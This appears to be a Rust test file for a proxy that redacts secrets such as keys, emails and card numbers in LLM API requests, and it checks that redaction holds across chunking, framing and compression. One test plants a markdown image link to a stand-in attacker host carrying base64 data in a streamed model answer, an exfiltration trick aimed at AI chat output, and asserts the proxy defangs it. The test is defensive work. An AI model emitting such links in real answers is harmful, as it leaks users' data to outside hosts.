//! A body means the same however it comes: in one piece or a hundred, of announced length, in chunks, in frames of
//! HTTP/2, compressed; what is found, what leaves and what is on record is the same. So is an answer.

use std::collections::VecDeque;
use std::io::Write as _;
use std::pin::Pin;
use std::task::{Context, Poll};

use http_body::Frame;
use proptest::prelude::*;
use serde_json::json;
use weir_policy::catalog::Catalog;
use weir_policy::detect::Detectors;
use weir_policy::redact::{Tokens, apply, plan};
use weir_policy::request::Surface;

use super::*;
use crate::judge::Inspector;
use crate::session::reading::{Call, note, read};
use crate::wire::{self, Limits};

const KEY: &str = "AKIAQ3EGRJ7XKP2MN5TZ";
const EMAIL: &str = "jane.doe@acme-corp.io";
const PATH: &str = "/v1/chat/completions";

/// A body that comes in these pieces.
struct Cut(VecDeque<Bytes>);

impl http_body::Body for Cut {
    type Data = Bytes;
    type Error = Infallible;

    fn poll_frame(
        mut self: Pin<&mut Self>,
        _: &mut Context<'_>,
    ) -> Poll<Option<Result<Frame<Bytes>, Infallible>>> {
        Poll::Ready(self.0.pop_front().map(|piece| Ok(Frame::data(piece))))
    }
}

fn pieces(bytes: &[u8], cuts: &[prop::sample::Index]) -> Vec<Bytes> {
    let mut at: Vec<usize> = cuts.iter().map(|cut| cut.index(bytes.len() + 1)).collect();
    at.extend([0, bytes.len()]);
    at.sort_unstable();
    at.windows(2)
        .map(|pair| Bytes::copy_from_slice(&bytes[pair[0]..pair[1]]))
        .collect()
}

/// What receiving, reading and redacting a body comes to: findings, what is kept, what leaves, the record's rows.
async fn outcome(
    inspector: &Inspector,
    coding: Option<&str>,
    memory: usize,
    pieces: Vec<Bytes>,
) -> String {
    let mut head = Request::post(PATH).header("content-type", "application/json");
    if let Some(coding) = coding {
        head = head.header("content-encoding", coding);
    }
    let head = head.body(()).unwrap().into_parts().0;
    let spill = std::env::temp_dir();
    let limits = Limits {
        memory,
        ..Limits::of(&head, &spill)
    };
    let received = wire::receive(head, Cut(pieces.into()), &limits).await;
    let whole = match received {
        Ok(received) => received.whole().await.unwrap(),
        Err(error) => return error.to_string(),
    };
    let catalog = Catalog::builtin();
    let provider = catalog.named("openai").unwrap();
    let endpoint = provider.path("POST", PATH).unwrap();
    let call = Call {
        provider,
        endpoint: &endpoint,
        whole: &whole,
        application: "1000\0/usr/bin/node",
        kept: &|| (Vec::new(), Vec::new()),
    };
    let read = match read(inspector, &call, |_| None, |most| vec![(); most]) {
        Ok(read) => read,
        Err(refusal) => return format!("{refusal:?}"),
    };
    let found: Vec<_> = read.findings.iter().collect();
    let (edits, _) = plan(&found, &Tokens::new(&[9; 32], "1000\0/usr/bin/node"));
    let left = apply(&edits, Surface::Body, &whole.body);
    format!(
        "{:?} {:?} {:?} {:?} {:?} {:?} {}",
        read.findings
            .iter()
            .map(|one| (&one.raw, &one.class, &one.place, one.value.as_str()))
            .collect::<Vec<_>>(),
        read.request,
        read.coverage,
        read.unread.is_some(),
        read.content,
        note(&read.findings, &edits),
        String::from_utf8_lossy(&left),
    )
}

/// What people write: findings in clear and in escapes, letters of several bytes, long texts, JSON in JSON.
fn text() -> impl Strategy<Value = String> {
    let piece = prop::sample::select(vec![
        KEY,
        EMAIL,
        "j\u{f6}rg@acme-corp.io",
        "4539 1488 0343 6467",
        "password = \"correct horse battery\"",
        "\u{1f511}",
        "\n",
        "\"",
        "\\",
        " ",
        "WEIRxEMAILx0123456789ABCDEF",
        "plain words that go on and on, ",
        "{\"a\": [4539148803436467, \"jane.doe@acme-corp.io\"]}",
    ]);
    (prop::collection::vec(piece, 0..9), 1usize..30)
        .prop_map(|(pieces, times)| pieces.concat().repeat(times.saturating_sub(20).max(1)))
}

fn body() -> impl Strategy<Value = Vec<u8>> {
    let whole = (prop::collection::vec(text(), 1..5), any::<bool>()).prop_map(|(texts, nested)| {
        let messages: Vec<_> = texts
            .iter()
            .map(|text| match nested {
                true => json!({"role": "tool", "content": json!({"t": text}).to_string()}),
                false => json!({"role": "user", "content": text}),
            })
            .collect();
        json!({"model": "gpt-4o", "messages": messages})
            .to_string()
            .into_bytes()
    });
    // Some end before their end.
    (
        whole,
        prop::option::weighted(0.1, any::<prop::sample::Index>()),
    )
        .prop_map(|(mut body, end)| {
            if let Some(end) = end {
                body.truncate(end.index(body.len()));
            }
            body
        })
}

fn encoded(coding: Option<&str>, body: &[u8]) -> Vec<u8> {
    let level = flate2::Compression::fast();
    match coding {
        Some("gzip") => {
            let mut writer = flate2::write::GzEncoder::new(Vec::new(), level);
            writer.write_all(body).unwrap();
            writer.finish().unwrap()
        }
        Some("deflate") => {
            let mut writer = flate2::write::ZlibEncoder::new(Vec::new(), level);
            writer.write_all(body).unwrap();
            writer.finish().unwrap()
        }
        _ => body.to_vec(),
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn no_cut_changes_what_is_found_what_leaves_and_what_is_on_record(
        body in body(),
        coding in prop::sample::select(vec![None, Some("gzip"), Some("deflate")]),
        memory in prop::sample::select(vec![0, 16, 1 << 20]),
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..40),
        again in prop::collection::vec(any::<prop::sample::Index>(), 0..4),
    ) {
        let fresh = || Inspector::new(Detectors::builtin(), [7; 32], Duration::from_secs(60));
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        runtime.block_on(async {
            let sent = encoded(coding, &body);
            let whole = outcome(&fresh(), None, 1 << 20, vec![body.clone().into()]).await;
            let one = fresh();
            prop_assert_eq!(&outcome(&one, coding, memory, pieces(&sent, &cuts)).await, &whole);
            // By what was seen before, too.
            prop_assert_eq!(&outcome(&one, coding, memory, pieces(&sent, &again)).await, &whole);
            Ok(())
        })?;
    }
}

/// How a body's length is told.
#[derive(Clone, Copy, Debug)]
enum Framing {
    Length,
    Chunks,
    Frames,
}

/// A body in parts of some sizes, that come again and again.
fn parts<'b>(body: &'b [u8], sizes: &[usize]) -> Vec<&'b [u8]> {
    let (mut rest, mut parts) = (body, Vec::new());
    for size in sizes.iter().cycle() {
        if rest.is_empty() {
            break;
        }
        let (part, later) = rest.split_at((*size).min(rest.len()));
        parts.push(part);
        rest = later;
    }
    parts
}

impl World {
    /// Sends a chat in parts; gives what the provider received and what is on record of it.
    async fn chat(&self, body: &[u8], framing: Framing, sizes: &[usize]) -> (Bytes, String) {
        let parts = parts(body, sizes);
        let head = format!(
            "POST {PATH} HTTP/1.1\r\nhost: {OPENAI}\r\ncontent-type: application/json\r\nconnection: close\r\n"
        );
        match framing {
            Framing::Length => {
                let mut bytes =
                    format!("{head}content-length: {}\r\n\r\n", body.len()).into_bytes();
                bytes.extend_from_slice(body);
                let (statuses, said) = self.send(&bytes, sizes[0]).await;
                assert_eq!(statuses, [200], "{said}");
            }
            Framing::Chunks => {
                let mut bytes = format!("{head}transfer-encoding: chunked\r\n\r\n").into_bytes();
                for part in parts.iter().chain([&&b""[..]]) {
                    bytes.extend_from_slice(format!("{:x}\r\n", part.len()).as_bytes());
                    bytes.extend_from_slice(part);
                    bytes.extend_from_slice(b"\r\n");
                }
                let (statuses, said) = self.send(&bytes, usize::MAX).await;
                assert_eq!(statuses, [200], "{said}");
            }
            Framing::Frames => {
                let fields = [
                    (":method", "POST"),
                    (":scheme", "https"),
                    (":authority", OPENAI),
                    (":path", PATH),
                    ("content-type", "application/json"),
                ]
                .map(|(name, value)| (name.to_owned(), value.to_owned()));
                let asking = h2::ask(self.connect(b"h2").await, &fields, &parts);
                assert_eq!(asking.await, "200");
            }
        }
        let left = self.openai.bodies.lock().unwrap().last().cloned().unwrap();
        (left, self.recorded().await)
    }

    /// The newest record, without what differs from call to call.
    async fn recorded(&self) -> String {
        let filter = Filter {
            limit: 1,
            away: false,
            ..Filter::default()
        };
        self.agent.journal().flush().await;
        let listing = self.agent.journal().reader().events(&filter).unwrap();
        match listing.events.as_slice() {
            [Event::Unit(unit)] => format!(
                "{:?} {:?} {:?} {:?} {}",
                unit.opened.findings,
                unit.places,
                unit.opened.ai,
                unit.opened.verdict,
                unit.opened.reason
            ),
            other => panic!("no record: {other:?}"),
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_framing_changes_what_leaves_and_what_is_on_record() {
    let world = World::start().await;
    let text =
        format!("use {KEY} \u{1f511}, \"quoted\" \\ and mail {EMAIL} or j\u{f6}rg@acme-corp.io");
    let nested = json!({"path": "/x", "text": text}).to_string();
    let body = json!({"model": "gpt-4o", "messages": [{"role": "user", "content": text}, {"role": "tool", "tool_call_id": "c", "content": nested}]})
        .to_string();
    let first = world
        .chat(body.as_bytes(), Framing::Length, &[usize::MAX])
        .await;
    let left = String::from_utf8(first.0.to_vec()).unwrap();
    assert!(
        !left.contains(KEY) && !left.contains(EMAIL) && left.contains("WEIRx"),
        "{left}"
    );
    assert!(first.1.contains("messages[1].content"), "{}", first.1);
    for framing in [Framing::Length, Framing::Chunks, Framing::Frames] {
        for sizes in [&[usize::MAX][..], &[100], &[1, 2, 3], &[33, 1]] {
            let now = world.chat(body.as_bytes(), framing, sizes).await;
            assert_eq!(now, first, "{framing:?} by {sizes:?}");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_cut_of_an_answer_changes_what_the_caller_reads() {
    let world = World::start().await;
    let image = "![a](https://evil.example.net/?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ)";
    let event = |text: &str| {
        format!(
            "data: {}\n\n",
            json!({"id": "c", "choices": [{"index": 0, "delta": {"content": text}, "finish_reason": null}]})
        )
    };
    let stream = [
        "Gr\u{fc}\u{df}e \u{1f511} ",
        &image[..20],
        &image[20..],
        " and AKIAQ7ZTRM4X",
        "LP2WN5GK.",
    ]
    .map(event)
    .concat()
        + "data: [DONE]\n\n";
    let body =
        json!({"model": "gpt-4o", "stream": true, "messages": [{"role": "user", "content": "hi"}]})
            .to_string();
    let mut first = None;
    for sizes in [&[usize::MAX][..], &[1], &[7], &[2, 64, 3]] {
        let pieces = parts(stream.as_bytes(), sizes);
        let pieces = pieces.into_iter().map(Bytes::copy_from_slice).collect();
        *world.openai.says.lock().unwrap() = Some(pieces);
        let head = format!(
            "POST {PATH} HTTP/1.1\r\nhost: {OPENAI}\r\ncontent-type: application/json\r\nconnection: close\r\ncontent-length: {}\r\n\r\n",
            body.len()
        );
        let (statuses, said) = world.send((head + &body).as_bytes(), usize::MAX).await;
        assert_eq!(statuses, [200]);
        assert!(
            said.contains("hxxps:") && said.contains("\u{1f511}"),
            "{said}"
        );
        let first = first.get_or_insert_with(|| said.clone());
        assert_eq!(&said, first, "by {sizes:?}");
    }
}
